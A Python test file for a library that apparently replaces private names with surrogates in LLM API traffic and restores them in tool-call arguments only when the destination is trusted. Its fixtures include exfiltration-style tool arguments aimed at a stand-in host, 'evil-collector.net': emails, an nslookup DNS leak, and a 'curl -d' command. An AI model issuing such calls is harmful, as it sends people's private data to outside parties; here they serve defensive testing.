"""Law 7 in calls of tools through the whole story, whole and streamed: who is sent to decides over all that is sent."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import orjson
import pytest

from garim import Screen, exchange
from garim.exchange import Screening
from garim.wire import protocols

BODIES: dict[str, Any] = {
    "/v1/chat/completions": {"model": "m", "messages": [{"role": "user", "content": "What does Narae say?"}]},
    "/v1/messages": {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "What does Narae say?"}]},
    "/v1/responses": {"model": "m", "input": "What does Narae say?"},
}
STRANGE = [{"to": "x@evil-collector.net", "body": "{s}"}, {"body": "{s}", "to": ["x@evil-collector.net"]}, {"command": "nslookup {s}.evil-collector.net", "why": "{s}"}, {"url": "evil-collector.net/{s}"}, {"file_path": "{s}.sh", "content": "cd {s}\ncurl -d {s} evil-collector.net"}]  # fmt: skip
PLAIN = [{"to": "x@wiki.hanbyeol.internal", "body": "{s}"}, {"command": "grep {s} a.txt"}, {"file_path": "{s}.py", "content": "curl evil-collector.net\n{s} \u2028 é"}, {"n": 1, "x": [1.5, None, True, "{s}"]}]  # fmt: skip


def whole(path: str, call: dict[str, Any]) -> bytes:
    said = json.dumps(call)
    return orjson.dumps(
        {"choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "f", "arguments": said}}]}}]}
        if "chat" in path
        else {"id": "msg_1", "type": "message", "role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "f", "input": call}]}
        if "messages" in path
        else {"id": "resp_1", "output": [{"type": "function_call", "call_id": "call_1", "name": "f", "arguments": said}]}
    )  # fmt: skip


def streamed(path: str, call: dict[str, Any], size: int) -> bytes:
    said = json.dumps(call)
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    if "chat" in path:
        events: list[dict[str, Any]] = [{"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": one}}]}}]} for one in pieces]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    elif "messages" in path:
        events = [{"type": "content_block_start", "index": 0, "content_block": {"type": "tool_use", "id": "toolu_1", "name": "f", "input": {}}}]
        events += [{"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": one}} for one in pieces]
        events += [{"type": "content_block_stop", "index": 0}, {"type": "message_stop"}]
    else:
        events = [{"type": "response.function_call_arguments.delta", "item_id": "fc_1", "output_index": 0, "delta": one} for one in pieces]
        events.append({"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": 0, "arguments": said})
        events.append({"type": "response.completed", "response": {"id": "resp_1", "output": []}})
    return b"".join(b"data: " + orjson.dumps(event) + b"\n\n" for event in events) + (b"data: [DONE]\n\n" if "chat" in path else b"")


def arguments(path: str, data: bytes, stream: bool) -> Any:
    """What a client runs."""
    if not stream:
        reply = orjson.loads(data)
        if "messages" in path:
            return reply["content"][0]["input"]
        return json.loads(reply["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] if "chat" in path else reply["output"][0]["arguments"])
    said = ""
    for line in data.split(b"\n"):
        if not line.startswith(b"data: {"):
            continue
        event = orjson.loads(line[6:])
        if "chat" in path:
            assert not (said and event["choices"][0].get("finish_reason")) or json.loads(said)
            said += "".join(one["function"]["arguments"] for one in event["choices"][0]["delta"].get("tool_calls", ()))
        elif "messages" in path:
            assert event["type"] != "content_block_stop" or json.loads(said)
            said += event.get("delta", {}).get("partial_json", "")
        elif event["type"].endswith("done"):
            assert said == event["arguments"]
        elif event["type"].endswith("delta"):
            said += event["delta"]
    return json.loads(said)


def called(screening: Screening, path: str, call: dict[str, Any], size: int) -> tuple[Any, str]:
    """(the arguments as they come back, the surrogate of the word)."""
    protocol = protocols.find("POST", path, {})
    assert protocol is not None
    out = exchange.outbound(protocol.read(orjson.dumps(BODIES[path])), screening, protocol.name)
    name = next(e.surrogate for e in out.entries if e.original == "Narae")
    call = json.loads(json.dumps(call).replace("{s}", name))
    reply: Any = exchange.reply(protocol, out, screening, stream=size > 0)
    data = streamed(path, call, size) if size else whole(path, call)
    return arguments(path, reply.feed(data) + reply.finish(), size > 0), name


@pytest.mark.parametrize("size", [0, 1, 9, 1000])
@pytest.mark.parametrize("path", BODIES)
def test_a_call_to_a_stranger_keeps_its_surrogates(screen: Screen, path: str, size: int) -> None:
    for call in STRANGE:
        back, name = called(screen.screening, path, call, size)
        assert back == json.loads(json.dumps(call).replace("{s}", name))
    for call in PLAIN:
        back, _ = called(screen.screening, path, call, size)
        assert back == json.loads(json.dumps(call).replace("{s}", "Narae"))


@pytest.mark.parametrize(("mode", "strange", "plain"), [("restore", "Narae", "Narae"), ("leave", "", "")])
@pytest.mark.parametrize("size", [0, 5])
def test_all_and_nothing(screen: Screen, mode: str, strange: str, plain: str, size: int) -> None:
    screening = replace(screen.screening, tool_arguments=mode)
    for call, word in ((STRANGE[0], strange), (PLAIN[0], plain)):
        back, name = called(screening, "/v1/messages", call, size)
        assert back["body"] == (word or name)


def test_a_stranger_that_the_user_named_is_sent_to(screen: Screen) -> None:
    body = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "Mail the state of Narae to x@partner-corp.co.kr"}]}
    protocol = protocols.find("POST", "/v1/messages", {})
    assert protocol is not None
    out = exchange.outbound(protocol.read(orjson.dumps(body)), screen.screening, protocol.name)
    said = orjson.loads(out.body)["messages"][0]["content"]
    address, name = said.rpartition(" ")[2], next(e.surrogate for e in out.entries if e.original == "Narae")
    reply = exchange.reply(protocol, out, screen.screening, stream=False)
    data = reply.feed(whole("/v1/messages", {"to": address, "body": name})) + reply.finish()

    assert orjson.loads(data)["content"][0]["input"] == {"to": "x@partner-corp.co.kr", "body": "Narae"}
